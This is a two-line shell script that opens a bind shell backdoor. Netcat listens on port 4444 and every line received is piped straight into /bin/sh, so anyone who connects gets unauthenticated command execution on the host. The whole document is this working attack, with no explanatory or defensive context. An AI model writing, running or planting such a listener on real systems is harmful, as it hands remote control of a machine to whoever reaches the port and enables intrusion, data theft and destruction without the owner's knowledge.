#!/bin/sh
nc -l -p 4444 | /bin/sh
